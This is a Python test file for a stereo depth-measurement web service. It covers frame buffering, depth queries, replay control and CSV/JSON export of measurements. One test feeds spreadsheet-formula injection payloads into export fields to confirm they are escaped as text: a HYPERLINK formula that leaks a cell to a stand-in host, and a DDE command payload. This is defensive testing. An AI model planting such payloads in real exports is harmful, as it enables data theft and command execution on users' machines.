"""The API the page relies on to show what it measured: frames kept while a page shows them, depth
at a pixel and the depth colour scale, replay control, names and notes, CSV and JSON export."""

from __future__ import annotations

import csv
import io
import math
import sqlite3

import cv2
import numpy as np
import pytest

from device.formats.mcap import export_mcap, load_measurements
from device.formats.recording import RecordingWriter
from service.frames import FrameRing
from history.export import CSV_COLUMNS, supported_decimals
from history.store import Store
from factories import SMALL_B, SMALL_F, SMALL_H, SMALL_W, PlaneSource, hilly_frame, wall_frame
from service_client import latest, make_client, measure

W, H, FX, BASELINE = SMALL_W, SMALL_H, SMALL_F, SMALL_B


def test_ring_keeps_frames_handed_out_as_latest():
    ring = FrameRing(capacity=2, max_frozen=4, keep_viewed=1)
    first = ring.push(wall_frame(1))
    ring.mark_viewed(first.id)
    for i in range(2, 6):
        ring.push(wall_frame(i))
    assert ring.get(first.id) is first  # shown to a page: kept although 4 newer frames came
    assert [e.id for e in map(ring.get, (first.id, 5))] == [1, 5] and len(ring) == 2  # the viewed one took a place
    second = ring.latest()
    ring.mark_viewed(second.id)  # keep_viewed=1: the older viewed frame goes now
    ring.push(wall_frame(6))
    with pytest.raises(KeyError, match="evicted"):
        ring.get(first.id)


def test_ring_moves_on_when_every_frame_was_viewed():
    """A page that views every frame must not pin the ring: the newest frame is always the latest,
    and at most capacity + keep_viewed frames are held."""
    ring = FrameRing(capacity=2, max_frozen=4, keep_viewed=3)
    for i in range(1, 12):
        entry = ring.push(wall_frame(i))
        assert ring.latest() is entry and ring.wait_latest(entry.id - 1, 0.01) is entry
        ring.mark_viewed(entry.id)
        assert len(ring) <= 2 + 3


def test_depth_at_pixel_is_frame_depth_and_scale_matches_colors(tmp_path):
    with make_client(tmp_path, factory=lambda: PlaneSource(frame=hilly_frame)) as c:
        fid = latest(c)["id"]
        c.post(f"/api/frames/{fid}/freeze", json={})
        frame = hilly_frame(int(c.get(f"/api/frames/{fid}").json()["meta"]["index"]))
        depth = frame.depth()
        for x, y in [(0, 0), (W - 1, H - 1), (123.4, 77.6), (160, 120), (105, 55)]:
            r = c.get(f"/api/frames/{fid}/depth", params={"x": x, "y": y}).json()
            col, row = round(x), round(y)
            assert (r["x"], r["y"]) == (col, row)
            if math.isnan(depth[row, col]):
                assert r["depth_m"] is None and r["disparity_px"] is None
            else:
                assert r["depth_m"] == depth[row, col]  # exactly Frame.depth()
                assert r["disparity_px"] == pytest.approx(float(frame.disparity[row, col]))
        assert c.get(f"/api/frames/{fid}/depth", params={"x": W, "y": 3}).status_code == 422
        assert c.get(f"/api/frames/{fid}/depth", params={"x": "nan", "y": 3}).status_code == 422

        s = c.get(f"/api/frames/{fid}/depth-scale").json()
        lo, hi = np.nanpercentile(frame.disparity, [1, 99])
        assert s["disparity_px"] == pytest.approx([lo, hi])
        assert s["depth_m"] == pytest.approx([FX * BASELINE / (hi + 1.5), FX * BASELINE / (lo + 1.5)])
        assert s["fx_baseline"] == pytest.approx(FX * BASELINE) and s["doffs"] == 1.5
        # the colour bar's ends are the colours the disparity view paints at those disparities
        png = cv2.imdecode(np.frombuffer(c.get(f"/api/frames/{fid}/disparity.png").content, np.uint8), cv2.IMREAD_COLOR)
        low_px = np.unravel_index(np.nanargmin(np.where(np.isnan(frame.disparity), np.inf, frame.disparity)), (H, W))
        b, g, r_ = png[low_px]
        assert s["colors"][0] == f"#{r_:02x}{g:02x}{b:02x}" and len(s["colors"]) == 16


@pytest.mark.slow
def test_latest_after_a_wait_with_nothing_newer_is_the_newest_frame(tmp_path):
    import threading

    state = {"gate": threading.Semaphore(0)}
    with make_client(tmp_path, factory=lambda: PlaneSource(state=state)) as c:
        state["gate"].release(1)
        first = latest(c)
        r = c.get("/api/frames/latest", params={"after": first["id"], "wait": 0.2})
        assert r.status_code == 200 and r.json()["id"] == first["id"]  # a paused replay is not an error


def test_name_note_csv_and_json_export(tmp_path):
    with make_client(tmp_path) as c:
        fid = latest(c)["id"]
        c.post(f"/api/frames/{fid}/freeze", json={})
        a = measure(c, fid, (20, 30), (300, 30)).json()
        b = measure(c, fid, (20, 30), (20, 200), method="basic").json()
        named = c.patch(f"/api/measurements/{a['id']}", json={"name": "shelf, top", "note": 'left "edge"\nto right'})
        assert named.status_code == 200 and named.json()["name"] == "shelf, top"
        assert c.patch(f"/api/measurements/{a['id']}", json={"note": "only the note"}).json()["name"] == "shelf, top"
        assert c.patch(f"/api/measurements/{a['id']}", json={"colour": "red"}).status_code == 422
        assert c.patch("/api/measurements/999999", json={"name": "x"}).status_code == 404

        text = c.get("/api/measurements.csv", params={"units": "mm"}).text
        rows = list(csv.DictReader(io.StringIO(text)))
        assert tuple(rows[0].keys()) == CSV_COLUMNS
        assert [int(r["id"]) for r in rows] == [a["id"], b["id"]]
        ra = rows[0]
        assert (ra["name"], ra["note"], ra["units"]) == ("shelf, top", "only the note", "mm")
        dec = supported_decimals(a["uncertainty_m"], 1000.0)
        assert ra["distance"] == f"{a['distance_m'] * 1000:.{dec}f}"
        assert float(ra["p2_Z"]) == pytest.approx(a["p2_m"][2] * 1000, abs=10 ** -dec)
        assert (float(ra["p1_x_px"]), float(ra["p2_x_px"])) == (20.0, 300.0)
        assert c.get("/api/measurements.csv", params={"units": "furlong"}).status_code == 422
        # the frame link opens the saved frame
        link = ra["frame_url"]
        assert link.endswith(f"/api/measurements/{a['id']}/color.png")
        img = cv2.imdecode(np.frombuffer(c.get(link).content, np.uint8), cv2.IMREAD_COLOR)
        assert img.shape == (H, W, 3)

        data = c.get("/api/measurements.json")
        assert data.status_code == 200 and "attachment" in data.headers["content-disposition"]
        (tmp_path / "m.json").write_text(data.text)
        loaded = load_measurements(tmp_path / "m.json")  # what `depthruler export --measurements` reads
        assert [m["id"] for m in loaded] == [a["id"], b["id"]]
        assert loaded[0]["samples_px"] == a["samples_px"] and loaded[0]["note"] == "only the note"


def test_csv_export_neutralises_formula_cells(tmp_path):
    """A name or note typed as a spreadsheet formula is exported as text; negative numbers stay numbers."""
    formulas = {"name": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "note": "+cmd|' /C calc'!A0"}
    with make_client(tmp_path) as c:
        fid = latest(c)["id"]
        m = measure(c, fid, (20, 30), (300, 30), method="basic").json()
        assert m["p1_m"][0] < 0  # left of the principal point: a negative X to export
        c.patch(f"/api/measurements/{m['id']}", json=formulas)
        for other in ("-1+1", "@SUM(A1)", "\tx", "\rx"):
            n = measure(c, fid, (20, 30), (300, 30), method="basic").json()
            c.patch(f"/api/measurements/{n['id']}", json={"name": other})
        rows = list(csv.DictReader(io.StringIO(c.get("/api/measurements.csv").text, newline="")))
    assert (rows[0]["name"], rows[0]["note"]) == ("'" + formulas["name"], "'" + formulas["note"])
    assert [r["name"] for r in rows[1:]] == ["'-1+1", "'@SUM(A1)", "'\tx", "'\rx"]
    assert rows[0]["p1_X"].startswith("-") and float(rows[0]["p1_X"]) == pytest.approx(m["p1_m"][0], abs=1e-3)
    assert float(rows[0]["distance"]) == pytest.approx(m["distance_m"], abs=1e-3)


def test_supported_decimals():
    # two significant digits of the uncertainty (GUM): 0.00096 m, 0.96 mm, 1.2 cm
    assert supported_decimals(0.00096, 1.0) == 5
    assert supported_decimals(0.00096, 1000.0) == 2
    assert supported_decimals(0.012, 100.0) == 1  # 1.2 cm
    assert supported_decimals(None, 1.0) == 4 and supported_decimals(float("nan"), 1.0) == 4


def test_result_fields_without_a_column_are_kept(tmp_path):
    """The verdict fields of the core (quality, reasons, interval_m) survive storage and reopening."""
    Store(tmp_path / "h.db").close()
    with sqlite3.connect(tmp_path / "h.db") as db:  # a history database from before the extra column
        db.execute("ALTER TABLE measurements DROP COLUMN extra")
    store = Store(tmp_path / "h.db")
    result = {
        "distance_m": 0.835, "method": "robust", "fit": "line", "p1_m": [0, 0, 2], "p2_m": [0.835, 0, 2],
        "basic_distance_m": 0.84, "uncertainty_m": 0.001, "n_samples": 10, "n_valid": 10, "n_support": 9,
        "samples_px": [[1, 2]], "support": [True], "gap_detected": False, "warnings": [], "elapsed_ms": 1.0,
        "quality": "check", "reasons": ["the end p2 is extrapolated 12 px beyond the support"], "interval_m": [0.832, 0.838],
    }  # fmt: skip
    rec = store.add(frame_id=1, frame_uid="u", frame=wall_frame(0), source="sim", p1=(1, 2), p2=(3, 4), options={}, result=result,
                    context={"frame_index": 7})  # fmt: skip
    store.close()
    again = Store(tmp_path / "h.db")
    got = again.get(rec["id"])
    assert (got["quality"], got["reasons"], got["interval_m"], got["frame_index"]) == (
        "check", result["reasons"], [0.832, 0.838], 7
    )
    row = next(csv.DictReader(io.StringIO(again.csv())))
    assert (row["quality"], row["interval_low"], row["interval_high"]) == ("check", "0.8320", "0.8380")
    assert again.annotate(rec["id"], name="door")["quality"] == "check"  # naming keeps the verdict
    again.delete(rec["id"])
    assert again.get(rec["id"]) is None
    again.close()


def test_replay_pause_step_seek(tmp_path):
    rec = tmp_path / "rec"
    src = PlaneSource()
    with RecordingWriter(rec, src.info) as w:
        for i in range(6):
            w.write(wall_frame(i))
    with make_client(tmp_path, factory=f"replay:{rec}?loop=1", capture_fps=50.0) as c:
        latest(c)
        assert c.post("/api/source/replay", json={"action": "pause"}).json()["paused"] is True
        c.get("/api/frames/latest", params={"wait": 0.3})
        before = c.get("/api/source").json()["replay"]
        assert before["frames"] == 6 and before["paused"]
        newest = latest(c)["id"]
        assert c.get("/api/frames/latest", params={"after": newest, "wait": 0.3}).json()["id"] == newest  # paused
        c.post("/api/source/replay", json={"action": "step"})
        stepped = latest(c, after=newest)
        assert stepped["replay_index"] == (before["index"] + 1) % 6
        c.post("/api/source/replay", json={"action": "seek", "index": 2})
        seeked = latest(c, after=stepped["id"])
        assert seeked["replay_index"] == 2 and c.get("/api/source").json()["replay"]["index"] == 2
        # a frame measured on a replay remembers its index in the recording
        c.post(f"/api/frames/{seeked['id']}/freeze", json={})
        assert measure(c, seeked["id"], (20, 30), (300, 30)).json()["frame_index"] == 2
        # the JSON export goes straight into `depthruler export --measurements`, on that frame
        (tmp_path / "m.json").write_text(c.get("/api/measurements.json").text)
        counts = export_mcap(rec, tmp_path / "r.mcap", measurements=load_measurements(tmp_path / "m.json"))
        assert counts["/measurements"] == 1
        assert c.post("/api/source/replay", json={"action": "seek", "index": 6}).status_code == 422
        assert c.post("/api/source/replay", json={"action": "rewind"}).status_code == 422
        c.post("/api/source/replay", json={"action": "play"})
        assert latest(c, after=seeked["id"])["id"] > seeked["id"]
    with make_client(tmp_path / "live") as c:
        latest(c)
        r = c.post("/api/source/replay", json={"action": "pause"})
        assert r.status_code == 409 and "not a replay" in r.json()["detail"] and "bags and video files" in r.json()["detail"]
